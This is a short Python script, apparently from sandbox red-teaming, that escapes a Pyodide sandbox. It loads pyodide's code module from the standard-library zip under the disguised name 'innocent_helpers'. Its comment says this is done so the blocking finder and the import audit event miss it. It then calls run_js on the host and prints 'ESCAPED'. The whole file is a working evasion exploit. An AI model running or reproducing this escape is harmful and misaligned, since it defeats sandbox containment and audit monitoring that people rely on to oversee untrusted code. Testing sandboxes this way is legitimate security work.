# Route: load pyodide/code.py straight out of the standard library zip with zipimport under an
# innocent module name, so that neither the blocking finder nor the import audit event sees "pyodide".
import sys
import zipimport

archive = f"/lib/python{sys.version_info[0]}{sys.version_info[1]}.zip/pyodide/"
code = zipimport.zipimporter(archive).get_code("code")
module = type(sys)("innocent_helpers")
exec(code, module.__dict__)
print(f"ESCAPED: run_js from the zip: {module.run_js('process.pid')}")
